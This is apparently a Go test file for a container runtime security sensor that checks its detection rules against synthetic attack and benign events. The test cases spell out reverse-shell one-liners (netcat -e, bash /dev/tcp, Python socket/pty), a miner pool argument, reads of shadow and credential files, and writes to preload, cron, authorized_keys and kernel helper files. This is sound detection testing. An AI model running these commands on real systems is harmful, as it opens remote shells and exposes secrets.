package rules_test

import (
	"errors"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/sys/unix"

	"github.com/saker-sensor/saker/internal/engine"
	"github.com/saker-sensor/saker/internal/engine/inspect"
	"github.com/saker-sensor/saker/internal/engine/rulefile"
	"github.com/saker-sensor/saker/internal/event"
	"github.com/saker-sensor/saker/internal/field"
	"github.com/saker-sensor/saker/internal/testutil"
	"github.com/saker-sensor/saker/rules"
)

func load(t *testing.T) *engine.Ruleset {
	t.Helper()
	rs, results := engine.Load(
		[]rulefile.Source{{Name: rules.DefaultName, Content: rules.Default}},
		engine.Options{
			Dictionary:  field.Syscall(),
			CheckOutput: checkOutput(field.Syscall()),
			MatchAll:    true,
			Builtin:     &rulefile.Source{Name: rules.MacrosName, Content: rules.Macros},
		})
	if !results.Successful() {
		t.Fatalf("the default rules are refused: %v\n%s", results.Err, results.Text(true))
	}
	for _, f := range results.Files {
		if len(f.Warnings) > 0 || f.Schema != rulefile.SchemaValid {
			t.Fatalf("the default rules load with warnings:\n%s", results.Text(true))
		}
	}
	return rs
}

var templateField = regexp.MustCompile(`%([a-z0-9_.]+)`)

func checkOutput(dict *field.Dictionary) func(string) error {
	return func(template string) error {
		var errs []error
		for _, m := range templateField.FindAllStringSubmatch(template, -1) {
			_, err := dict.Lookup(m[1], "", false)
			errs = append(errs, err)
		}
		return errors.Join(errs...)
	}
}

// TestStyle holds every rule to what a reader of alerts needs.
func TestStyle(t *testing.T) {
	rs := load(t)
	if n := len(rs.Rules()); n < 10 {
		t.Fatalf("%d rules", n)
	}
	technique := regexp.MustCompile(`^T[0-9]{4}(\.[0-9]{3})?$`)
	for _, r := range rs.Rules() {
		if !slices.ContainsFunc(r.Tags, technique.MatchString) {
			t.Errorf("%s: no technique among the tags %v", r.Name, r.Tags)
		}
		if !slices.ContainsFunc(r.Tags, func(s string) bool { return strings.HasPrefix(s, "mitre_") }) {
			t.Errorf("%s: no tactic among the tags %v", r.Name, r.Tags)
		}
		for _, f := range []string{"%proc.cmdline", "%user.name", "%container.name", "%k8s.pod.name"} {
			if !strings.Contains(r.Output, f) {
				t.Errorf("%s: the output lacks %s", r.Name, f)
			}
		}
		for _, ty := range r.Types.Types() {
			if !ty.Captured() {
				t.Errorf("%s: waits for %s, which no hook produces", r.Name, ty)
			}
		}
		if r.NeedsContainer {
			t.Errorf("%s: the condition waits for metadata, which delays the alert", r.Name)
		}
	}
}

// TestListed: docs/rules.md lists each default rule with its priority.
func TestListed(t *testing.T) {
	page, err := os.ReadFile("../docs/rules.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range load(t).Rules() {
		if row := "| " + r.Name + " | " + r.Priority.String() + " | "; !strings.Contains(string(page), "\n"+row) {
			t.Errorf("docs/rules.md has no row %q", row)
		}
	}
}

// happening is an event as the tests write it.
type happening struct {
	exec, open, failedOpen, byHandle string
	// becomes is the path of a failed call when it returned, if another.
	becomes string
	// flags of an open; 0 reads.
	flags uint32
	errno int64
	comm  string
	args  string
	// parents from the nearest up.
	parents      []string
	tty, uid     uint32
	container    bool
	vpid         int32
	upper, memfd bool
	failed       bool
	resolved     string
	ring         bool
}

func (h happening) event() *event.Event {
	p := &event.Process{Comm: h.comm, ExePath: h.exec, Args: h.args, Cmdline: strings.TrimSpace(h.comm + " " + h.args),
		TTY: h.tty, UID: h.uid, EUID: h.uid, Vpid: h.vpid, ExeMemfd: h.memfd, LoginUID: ^uint32(0)}
	if h.upper {
		p.ExeLayer = event.LayerUpper
	}
	if h.vpid == 0 {
		p.Vpid = 4242
	}
	for at, i := p, 0; i < len(h.parents); i++ {
		at.Parent = &event.Process{Comm: h.parents[i], Cmdline: h.parents[i], Vpid: 10}
		at = at.Parent
	}
	ev := &event.Event{Num: 1, Type: event.TypeExecve, Process: p, Vpid: p.Vpid, Tgid: 4242, Tid: 4242, ContainerID: event.HostID}
	if h.container {
		ev.ContainerID = "0123456789ab"
	}
	path := h.open + h.failedOpen + h.byHandle
	switch {
	case path != "":
		ev.Type, ev.Ret = event.TypeOpenat, 3
		if h.byHandle != "" {
			ev.Type = event.TypeOpenByHandleAt
		}
		ev.File = event.File{Present: true, FD: 3, Raw: path, Given: path, Resolved: path, OpenFlags: h.flags, InodeMode: unix.S_IFREG | 0o600}
		if h.resolved != "" {
			ev.File.Resolved = h.resolved
		}
		if h.failedOpen != "" {
			ev.Ret, ev.File.FD, ev.File.Resolved, ev.File.InodeMode = -h.errno, -h.errno, "", 0
			ev.File.AtExit = h.becomes
		}
	case h.ring:
		ev.Type, ev.Ret, ev.Uring = event.TypeIoUringSetup, 3, event.Uring{SQEntries: 8, CQEntries: 16}
	case h.failed:
		ev.Ret, ev.FilenameAtExit = -int64(unix.ENOENT), h.becomes
	}
	if h.becomes != "" {
		ev.Flags |= event.FlagNameChanged
	}
	return ev
}

const write = unix.O_WRONLY | unix.O_CREAT

// TestAttacks: what each rule is for makes it fire, and only it unless more is said.
func TestAttacks(t *testing.T) {
	tests := []struct {
		name string
		h    happening
		want []string
	}{
		{"kubectl exec -it", happening{exec: "/bin/bash", comm: "bash", tty: 34816, container: true, parents: []string{"containerd-shim"}},
			[]string{"Terminal shell in a container"}},
		{"downloaded miner", happening{exec: "/opt/xmrig", comm: "xmrig", container: true, upper: true, parents: []string{"sh"}},
			[]string{"Program run that is not part of the image", "Command line of a miner"}},
		{"a miner's pool", happening{exec: "/usr/bin/kworkerds", comm: "kworkerds", args: "-o stratum+tcp://192.0.2.7:80 -u x"},
			[]string{"Command line of a miner"}},
		{"downloaded into /tmp", happening{exec: "/tmp/x", comm: "x", container: true, upper: true, parents: []string{"sh"}},
			[]string{"Program run that is not part of the image", "Program run from a temporary directory"}},
		{"fileless", happening{exec: "/memfd: (deleted)", comm: "3", memfd: true, parents: []string{"python3"}},
			[]string{"Program run from memory"}},
		{"fileless, with runc's name", happening{exec: "/memfd:runc_cloned:/proc/self/exe (deleted)", comm: "6", memfd: true, container: true,
			parents: []string{"sh"}},
			[]string{"Program run from memory"}},
		{"from shared memory", happening{exec: "/dev/shm/.x", comm: ".x", parents: []string{"bash"}},
			[]string{"Program run from a temporary directory"}},
		{"service account runs from /tmp", happening{exec: "/tmp/kdevtmpfsi", comm: "kdevtmpfsi", uid: 33, parents: []string{"sh"}},
			[]string{"Program run from a temporary directory"}},
		{"web shell", happening{exec: "/bin/dash", comm: "sh", args: "-c id", uid: 33, parents: []string{"php-fpm", "php-fpm"}},
			[]string{"Shell started by a service"}},
		{"redis runs a shell", happening{exec: "/bin/sh", comm: "sh", args: "-c wget x", container: true, parents: []string{"redis-server"}},
			[]string{"Shell started by a service"}},
		{"apt in a container", happening{exec: "/usr/bin/apt-get", comm: "apt-get", args: "install nmap", container: true,
			parents: []string{"bash"}},
			[]string{"Package manager run in a container"}},
		{"netcat with a shell", happening{exec: "/bin/nc", comm: "nc", args: "10.0.0.1 4444 -e /bin/sh", parents: []string{"sh"}},
			[]string{"Reverse shell command line"}},
		{"bash's tcp", happening{exec: "/bin/bash", comm: "bash", args: "-c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", parents: []string{"cron"}},
			[]string{"Reverse shell command line"}},
		{"python's socket", happening{exec: "/usr/bin/python3.11", comm: "python3",
			args: `-c import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("/bin/sh")`},
			[]string{"Reverse shell command line"}},
		{"nsenter", happening{exec: "/usr/bin/nsenter", comm: "nsenter", args: "-t 1 -m", container: true, parents: []string{"sh"}},
			[]string{"Namespace or mount tool run in a container"}},
		{"cat shadow", happening{open: "/etc/shadow", comm: "cat", parents: []string{"bash"}},
			[]string{"Sensitive file read by an untrusted program"}},
		{"cat shadow through a link", happening{open: "/tmp/x", resolved: "/etc/shadow", comm: "cat", parents: []string{"bash"}},
			[]string{"Sensitive file read by an untrusted program"}},
		{"host key", happening{open: "/etc/ssh/ssh_host_ed25519_key", comm: "cp", parents: []string{"bash"}},
			[]string{"Sensitive file read by an untrusted program"}},
		{"a child of a daemon", happening{open: "/etc/shadow", comm: "php", parents: []string{"systemd"}},
			[]string{"Sensitive file read by an untrusted program"}},
		{"refused", happening{failedOpen: "/etc/shadow", errno: int64(unix.EACCES), uid: 1000, comm: "cat", parents: []string{"bash"}},
			[]string{"Sensitive file refused to a user"}},
		{"path swapped during an open", happening{failedOpen: "/etc/shadow", becomes: "/tmp/x", errno: int64(unix.ENOENT), comm: "x"},
			[]string{"Path rewritten during a call"}},
		{"path swapped during an exec", happening{exec: "/tmp/x", becomes: "/bin/true", comm: "x", failed: true},
			[]string{"Path rewritten during a call"}},
		{"token", happening{open: "/var/run/secrets/kubernetes.io/serviceaccount/token",
			resolved: "/run/secrets/kubernetes.io/serviceaccount/..2026_11_23/token", comm: "cat", container: true, parents: []string{"sh"}},
			[]string{"Service account token read by a tool"}},
		{"a cloud's key", happening{open: "/root/.aws/credentials", comm: "cat", container: true, parents: []string{"sh"}},
			[]string{"Key or cloud credential read by a tool in a container"}},
		{"shocker", happening{byHandle: "/etc/hostname", comm: "shocker", container: true}, []string{"File opened by handle in a container"}},
		{"a ring", happening{ring: true, comm: "curing", container: true}, []string{"Ring of io_uring made in a container"}},
		{"passwd of a container", happening{open: "/etc/passwd", flags: write, comm: "sh", container: true, parents: []string{"java"}},
			[]string{"Write below etc in a container"}},
		{"new ls", happening{open: "/usr/bin/ls", flags: write, comm: "cp", parents: []string{"bash"}},
			[]string{"Write below a binary directory"}},
		{"preload", happening{open: "/etc/ld.so.preload", flags: write, comm: "sh", parents: []string{"bash"}},
			[]string{"Write to the preload list"}},
		{"cron", happening{open: "/etc/cron.d/x", flags: write, comm: "sh", parents: []string{"bash"}}, []string{"Write to a schedule"}},
		{"authorized keys", happening{open: "/root/.ssh/authorized_keys", flags: write, comm: "sh", parents: []string{"redis-server"}},
			[]string{"Write to the authorized keys"}},
		{"release_agent", happening{open: "/tmp/cgrp/release_agent", flags: write, comm: "sh", container: true, parents: []string{"bash"}},
			[]string{"Write to a helper of the kernel"}},
		{"core_pattern", happening{open: "/host/proc/sys/kernel/core_pattern", flags: write, comm: "sh", container: true,
			parents: []string{"bash"}}, []string{"Write to a helper of the kernel"}},
	}
	rs := load(t)
	hit := map[string]bool{}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			rs.Match(tt.h.event(), engine.NewScratch(), func(r *engine.Rule) { got = append(got, r.Name) })
			for _, n := range got {
				hit[n] = true
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("rules (-want +got):\n%s", diff)
			}
		})
	}
	// The rules behind this line are tested with the real calls, in test/rules.
	_, live, _ := strings.Cut(string(rules.Default), "# --- Ways out of a container")
	for _, r := range rs.Rules() {
		if !hit[r.Name] && !strings.Contains(live, "- rule: "+r.Name+"\n") {
			t.Errorf("no attack tests the rule %q", r.Name)
		}
	}
}

// TestHealthy: what a machine does all day fires nothing.
func TestHealthy(t *testing.T) {
	tests := []struct {
		name string
		h    happening
	}{
		{"a shell on the host", happening{exec: "/bin/bash", comm: "bash", tty: 34816, uid: 1000, parents: []string{"sshd"}}},
		{"a probe's shell", happening{exec: "/bin/sh", comm: "sh", args: "-c test -f /ready", container: true,
			parents: []string{"containerd-shim"}}},
		{"an image's program", happening{exec: "/usr/sbin/nginx", comm: "nginx", container: true, vpid: 1}},
		{"a failed exec from the upper layer", happening{exec: "/app/x", comm: "sh", container: true, upper: true, failed: true}},
		{"runc's copy of itself", happening{exec: "/memfd:runc_cloned:/proc/self/exe (deleted)", comm: "6", memfd: true,
			parents: []string{"runc", "containerd-shim"}}},
		{"a user's test binary", happening{exec: "/tmp/go-build1/x.test", comm: "x.test", uid: 1000, parents: []string{"go", "bash"}}},
		{"root's installer", happening{exec: "/tmp/selfgz/setup", comm: "setup", parents: []string{"sh"}}},
		{"cron runs a shell", happening{exec: "/bin/sh", comm: "sh", args: "-c /usr/lib/x", parents: []string{"cron"}}},
		{"npm's script", happening{exec: "/bin/sh", comm: "sh", args: "-c npm run build", parents: []string{"node"}}},
		{"apt on the host", happening{exec: "/usr/bin/apt-get", comm: "apt-get", args: "update", parents: []string{"sh", "systemd"}}},
		{"a port check", happening{exec: "/bin/nc", comm: "nc", args: "-z -w 1 db 5432", container: true, parents: []string{"sh"}}},
		{"python with a socket", happening{exec: "/usr/bin/python3", comm: "python3", args: "-m websocket_server"}},
		{"sshd reads shadow", happening{open: "/etc/shadow", comm: "sshd"}},
		{"sudo reads sudoers", happening{open: "/etc/sudoers.d/admins", comm: "sudo", uid: 0, parents: []string{"bash"}}},
		{"dpkg's script reads shadow", happening{open: "/etc/shadow", comm: "grep", parents: []string{"sh", "dpkg", "apt-get"}}},
		{"a missing file", happening{failedOpen: "/etc/shadow", errno: int64(unix.ENOENT), uid: 1000, comm: "cat"}},
		{"a ring on the host", happening{ring: true, comm: "fio", uid: 1000}},
		{"a database's ring", happening{ring: true, comm: "mariadbd", container: true}},
		{"passwd is for all", happening{open: "/etc/passwd", comm: "ls", uid: 1000}},
		{"a client library's token", happening{open: "/var/run/secrets/kubernetes.io/serviceaccount/token", comm: "coredns", container: true}},
		{"the CA beside the token", happening{open: "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt", comm: "curl", container: true}},
		{"an image's start script", happening{open: "/etc/nginx/conf.d/default.conf", flags: write, comm: "sed", container: true,
			parents: []string{"10-listen-on-ip", "docker-entrypoi"}}},
		{"a host's configuration", happening{open: "/etc/hostname.tmp", flags: write, comm: "systemd-hostnam"}},
		{"dpkg writes programs", happening{open: "/usr/bin/ls.dpkg-new", flags: write, comm: "dpkg", parents: []string{"apt-get"}}},
		{"a program is read", happening{open: "/usr/bin/ls", comm: "bash"}},
		{"an unpacked image", happening{open: "/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/1/fs/usr/bin/x", flags: write,
			comm: "containerd"}},
		{"crontab -e", happening{open: "/var/spool/cron/crontabs/tmp.x", flags: write, comm: "crontab"}},
		{"cloud-init's keys", happening{open: "/home/a/.ssh/authorized_keys", flags: write, comm: "cloud-init"}},
		{"the host's core pattern", happening{open: "/proc/sys/kernel/core_pattern", flags: write, comm: "systemd-sysctl"}},
		{"a client's key", happening{open: "/root/.ssh/id_ed25519", comm: "ssh", container: true, parents: []string{"sh"}}},
		{"a public key", happening{open: "/root/.ssh/id_ed25519.pub", comm: "cat", container: true, parents: []string{"sh"}}},
		{"an administrator's key", happening{open: "/root/.kube/config", comm: "cat", parents: []string{"bash"}}},
		{"a search for miners", happening{exec: "/bin/grep", comm: "grep", args: "-r stratum+tcp:// /etc"}},
		{"a log", happening{open: "/var/log/app.log", flags: write | unix.O_APPEND, comm: "java", container: true}},
	}
	rs := load(t)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rs.Match(tt.h.event(), engine.NewScratch(), func(r *engine.Rule) { t.Errorf("fired: %s", r.Name) })
		})
	}
}

// TestMacros: the built-in macros compile, each alone, and mean what their names say.
func TestMacros(t *testing.T) {
	names := regexp.MustCompile(`(?m)^- macro: (\w+)$`).FindAllSubmatch(rules.Macros, -1)
	if len(names) < 10 {
		t.Fatalf("%d macros", len(names))
	}
	var text strings.Builder
	for _, n := range names {
		text.WriteString("- rule: " + string(n[1]) + "\n  condition: " + string(n[1]) +
			"\n  desc: d\n  output: x\n  priority: INFO\n  warn_evttypes: false\n")
	}
	rs, results := engine.Load([]rulefile.Source{{Name: "all", Content: []byte(text.String())}}, engine.Options{
		Dictionary: field.Syscall(), MatchAll: true,
		Builtin: &rulefile.Source{Name: rules.MacrosName, Content: rules.Macros},
	})
	if !results.Successful() || len(results.Files[0].Warnings) > 0 {
		t.Fatal(results.Text(true))
	}
	tests := []struct {
		name string
		h    happening
		want []string
	}{
		{"a container starts", happening{exec: "/app", comm: "app", container: true, vpid: 1, parents: []string{"runc"}},
			[]string{"spawned_process", "container", "container_started", "container_entrypoint"}},
		{"a failed exec is one too", happening{exec: "/app", comm: "app", failed: true, parents: []string{"sh"}}, []string{"spawned_process"}},
		{"reading", happening{open: "/etc/hosts", comm: "cat", parents: []string{"sh"}}, []string{"open_read", "etc_dir"}},
		{"writing", happening{open: "/usr/bin/x", flags: write, comm: "cp", parents: []string{"sh"}}, []string{"open_write", "bin_dir"}},
		{"reading and writing", happening{open: "/root/x", flags: unix.O_RDWR, comm: "cp", parents: []string{"sh"}},
			[]string{"open_read", "open_write", "root_dir"}},
		{"a failed open", happening{failedOpen: "/x", errno: int64(unix.ENOENT), comm: "cp", parents: []string{"sh"}},
			[]string{"open_file_failed", "root_dir"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			ev := tt.h.event()
			ev.Process.Key.Start, ev.Process.ExecTime, ev.Boot = 1, 1, 1+uint64(10e9)
			rs.Match(ev, engine.NewScratch(), func(r *engine.Rule) {
				if r.Name != "always_true" && r.Name != "proc_name_exists" {
					got = append(got, r.Name)
				}
			})
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("macros (-want +got):\n%s", diff)
			}
		})
	}
}

// TestMacrosStandBack: with rule files that define everything themselves, the built-in macros change nothing.
func TestMacrosStandBack(t *testing.T) {
	var sources []rulefile.Source
	for _, name := range []string{"falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"} {
		content, err := os.ReadFile(testutil.Shared(t, "upstream-rules/"+name))
		if err != nil {
			t.Fatal(err)
		}
		sources = append(sources, rulefile.Source{Name: name, Content: content})
	}
	describe := func(builtin *rulefile.Source) (string, string) {
		rs, results := engine.Load(sources, engine.Options{Dictionary: field.Syscall(), Builtin: builtin})
		if !results.Successful() {
			t.Fatal(results.Text(true))
		}
		raw, _, err := inspect.DescribeJSON(rs, "")
		if err != nil {
			t.Fatal(err)
		}
		return results.Text(true), string(raw)
	}
	text, rs := describe(nil)
	textWith, rsWith := describe(&rulefile.Source{Name: rules.MacrosName, Content: rules.Macros})
	if diff := cmp.Diff(text, textWith); diff != "" {
		t.Errorf("messages (-without +with):\n%s", diff)
	}
	if rs != rsWith {
		t.Error("the rules differ")
	}
}
